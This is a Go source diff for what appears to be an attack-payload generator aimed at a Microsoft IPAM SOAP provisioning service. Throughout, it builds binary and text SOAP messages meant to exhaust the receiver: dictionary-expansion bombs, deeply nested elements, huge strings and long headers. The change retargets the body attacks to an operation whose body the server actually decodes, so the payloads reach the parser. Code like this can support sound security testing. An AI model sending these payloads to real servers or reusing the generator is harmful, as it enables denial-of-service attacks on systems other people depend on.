@@ -16,9 +16,12 @@ import (
 const (
 	NSEnvelope   = "http://www.w3.org/2003/05/soap-envelope"
 	NSAddressing = "http://www.w3.org/2005/08/addressing"
-	// ActionKeepalive is [MS-IPAMM2]'s Keepalive: a harmless action for
-	// attacks that live elsewhere in the message.
-	ActionKeepalive = "http://Microsoft.Windows.Ipam/IIpamAsyncProvision/Keepalive"
+	// ActionKeepalive is [MS-IPAMM2]'s Keepalive: the receiver reads its
+	// headers only, so header attacks use it.
+	ActionKeepalive = "Microsoft.WindowsServerSolutions.Common.ProviderFramework.Keepalive"
+	// ActionInitialize is InitializeAsyncProvisioning: the receiver reads
+	// the body of an authorized caller's request, so body attacks use it.
+	ActionInitialize = "http://Microsoft.Windows.Ipam/IIpamAsyncProvision/InitializeAsyncProvisioning"
 )
 
 // Place says where an expansion message repeats its dictionary references.
@@ -83,6 +86,16 @@ func sessionTable(s string) []byte {
 	return append(mb31(nil, len(entry)), entry...)
 }
 
+// NSIpam is the namespace of the MS-IPAMM2 operations.
+const NSIpam = "http://Microsoft.Windows.Ipam"
+
+// operation opens <InitializeAsyncProvisioning xmlns="…Ipam">: a body the
+// receiver starts to decode, so what is inside it is read.
+func operation(b []byte) []byte {
+	b = append(str(append(b, 0x40), "InitializeAsyncProvisioning"), 0x08) // ShortElement, ShortXmlnsAttribute
+	return str(b, NSIpam)
+}
+
 // envelopeStart opens s:Envelope (with s and a declared) and s:Header.
 func envelopeStart(b []byte) []byte {
 	b = element(b, "s", "Envelope")
@@ -123,9 +136,10 @@ func Expansion(place Place, size, tableBytes int) []byte {
 		b = append(b, 0x01)
 	default:
 		b = element(b, "a", "Action")
-		b = chars(b, ActionKeepalive)
+		b = chars(b, ActionInitialize)
 		b = append(b, 0x01, 0x01)
 		b = element(b, "s", "Body")
+		b = operation(b)
 		b = element(b, "x", "Pad")
 		b = xmlns(b, "x", "urn:pad")
 		switch place {
@@ -154,7 +168,7 @@ func Expansion(place Place, size, tableBytes int) []byte {
 				b = append(b, 0x01)
 			}
 		}
-		b = append(b, 0x01, 0x01) // </x:Pad></s:Body>
+		b = append(b, 0x01, 0x01, 0x01) // </x:Pad></InitializeAsyncProvisioning></s:Body>
 	}
 	return append(b, 0x01) // </s:Envelope>
 }
@@ -186,34 +200,36 @@ func LongHeader(n int) []byte {
 	return append(b, 0x01, 0x01)
 }
 
-// Deep returns an msbinsession1 payload (empty session table) with depth
-// nested elements in the body.
+// Deep returns an msbinsession1 payload (empty session table): an
+// InitializeAsyncProvisioning with depth nested elements in the body.
 func Deep(depth int) []byte {
 	b := envelopeStart([]byte{0x00})
 	b = element(b, "a", "Action")
-	b = chars(b, ActionKeepalive)
+	b = chars(b, ActionInitialize)
 	b = append(b, 0x01, 0x01)
 	b = element(b, "s", "Body")
+	b = operation(b)
 	for i := 0; i < depth; i++ {
 		b = append(b, 0x40, 0x01, 'd') // ShortElement <d>
 	}
-	for i := 0; i < depth+2; i++ {
+	for i := 0; i < depth+3; i++ {
 		b = append(b, 0x01)
 	}
 	return b
 }
 
-// LongString returns an msbinsession1 payload (empty session table) whose
-// body holds one text of n bytes.
+// LongString returns an msbinsession1 payload (empty session table): an
+// InitializeAsyncProvisioning whose body holds one text of n bytes.
 func LongString(n int) []byte {
 	b := envelopeStart([]byte{0x00})
 	b = element(b, "a", "Action")
-	b = chars(b, ActionKeepalive)
+	b = chars(b, ActionInitialize)
 	b = append(b, 0x01, 0x01)
 	b = element(b, "s", "Body")
+	b = operation(b)
 	b = append(b, 0x40, 0x01, 't')
 	b = chars(b, strings.Repeat("t", n))
-	return append(b, 0x01, 0x01, 0x01)
+	return append(b, 0x01, 0x01, 0x01, 0x01)
 }
 
 // Text attacks: the same classes for the SOAP 1.2 text encoding
@@ -224,7 +240,10 @@ func textEnvelope(headers, body string) []byte {
 		headers + `</s:Header><s:Body>` + body + `</s:Body></s:Envelope>`)
 }
 
-const textKeepalive = `<a:Action s:mustUnderstand="1">` + ActionKeepalive + `</a:Action>`
+const (
+	textKeepalive  = `<a:Action s:mustUnderstand="1">` + ActionKeepalive + `</a:Action>`
+	textInitialize = `<a:Action s:mustUnderstand="1">` + ActionInitialize + `</a:Action>`
+)
 
 // TextLongAction is LongAction in the text encoding.
 func TextLongAction(n int) []byte {
@@ -239,12 +258,14 @@ func TextLongHeader(n int, replyTo string) []byte {
 
 // TextDeep is Deep in the text encoding.
 func TextDeep(depth int) []byte {
-	return textEnvelope(textKeepalive, strings.Repeat("<d>", depth)+strings.Repeat("</d>", depth))
+	return textEnvelope(textInitialize, `<InitializeAsyncProvisioning xmlns="`+NSIpam+`">`+
+		strings.Repeat("<d>", depth)+strings.Repeat("</d>", depth)+`</InitializeAsyncProvisioning>`)
 }
 
 // TextLongString is LongString in the text encoding.
 func TextLongString(n int) []byte {
-	return textEnvelope(textKeepalive, "<t>"+strings.Repeat("t", n)+"</t>")
+	return textEnvelope(textInitialize, `<InitializeAsyncProvisioning xmlns="`+NSIpam+`"><t>`+
+		strings.Repeat("t", n)+`</t></InitializeAsyncProvisioning>`)
 }
 
 // TextCommentSplit is text that many comments split into pieces: readers
